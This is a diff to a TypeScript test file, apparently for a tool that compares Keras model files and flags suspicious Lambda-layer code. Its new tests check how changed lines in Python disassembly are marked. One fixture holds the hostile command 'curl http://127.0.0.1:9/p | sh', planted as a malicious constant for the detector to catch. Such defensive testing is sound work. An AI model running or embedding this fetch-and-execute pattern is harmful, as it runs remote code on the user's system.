@@ -6,6 +6,7 @@ import { readdirSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { inboundEdges } from '../../src/core/diff/normalise';
 import { diffCode } from '../../src/core/diff/code-diff';
+import { changedLines, disassemblyKey } from '../../src/core/diff/lines';
 import { decodeBase64 } from '../../src/core/keras/payload-bytes';
 import { dfx, diffFiles, fx, kinds, ofKind, side } from './diff-sides';
 
@@ -45,6 +46,12 @@ describe('a Lambda whose constant changed', () => {
     expect(p.a.disassembly).toMatch(/LOAD_CONST\s+2 \('echo a'\)/);
     expect(p.b.indicators.some((i) => i.startsWith('network:'))).toBe(true);
     expect(p.a.sha256).not.toBe(p.b.sha256);
+    // The changed lines: the one source line, and in the disassembly only the LOAD_CONST of the constant.
+    expect(p.lines?.source).toEqual({ a: [0], b: [0] });
+    const [da] = p.lines!.disassembly!.a;
+    expect(p.lines!.disassembly).toEqual({ a: [da], b: [da] });
+    expect(p.a.disassembly!.split('\n')[da]).toMatch(/LOAD_CONST\s+2 \('echo a'\)$/);
+    expect(p.b.disassembly!.split('\n')[da]).toMatch(/LOAD_CONST\s+2 \('curl http:\/\/127.0.0.1:9\/p \| sh'\)$/);
     // The container says the config changed, the weights did not.
     expect(ofKind(d, 'container-changed').map((x) => x.record.name)).toEqual(['config.json']);
   });
@@ -56,6 +63,22 @@ describe('a Lambda whose constant changed', () => {
     expect(changes[0].field).toBe('decoding');
     expect(changes[0].from).toBe('code object');
     expect(diffCode({ bytes: a, version: '3.11', defaults: [1] }, { bytes: a, version: '3.11', defaults: [2] })).toEqual([{ codeObject: '', field: 'defaults', from: '[1]', to: '[2]' }]);
+  });
+});
+
+describe('changed lines', () => {
+  const before = ['  1           0 RESUME                   0', '              2 LOAD_FAST                0 (x)', '              4 LOAD_CONST               1 (2)', '              6 BINARY_OP                5 (*)', '             10 RETURN_VALUE'].join('\n');
+  it('an inserted instruction marks itself, not every later line whose offset moved', () => {
+    const after = ['  1           0 RESUME                   0', '              2 LOAD_FAST                0 (x)', '              4 NOP', '              6 LOAD_CONST               1 (2)', '              8 BINARY_OP                5 (*)', '             12 RETURN_VALUE'].join('\n');
+    expect(changedLines(before, after, disassemblyKey)).toEqual({ a: [], b: [2] });
+    // Compared as plain text, every line after the insertion would be marked.
+    expect(changedLines(before, after)!.b).toEqual([2, 3, 4, 5]);
+  });
+  it('a changed constant marks its line on both sides; a middle too large to align is not marked', () => {
+    expect(changedLines(before, before.replace('1 (2)', '1 (3)'), disassemblyKey)).toEqual({ a: [2], b: [2] });
+    const big = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `${tag}${i}`).join('\n');
+    expect(changedLines(big(3000, 'a'), big(3000, 'b'))).toBeNull();
+    expect(changedLines(`x\n${big(3000, 'a')}`, `y\n${big(3000, 'a')}`)).toEqual({ a: [0], b: [0] });
   });
 });
 
